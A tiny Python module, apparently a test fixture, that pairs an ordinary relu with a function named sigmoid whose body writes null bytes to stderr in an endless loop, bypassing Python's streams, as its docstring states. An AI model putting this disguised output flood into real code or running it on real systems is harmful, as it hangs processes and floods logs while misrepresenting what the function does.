"""Writes without end to descriptor 2, past Python's own streams."""

import os

import numpy as np


def relu(z):
    return np.maximum(z, 0.0)


def sigmoid(z):
    while True:
        os.write(2, b"\0" * 65536)
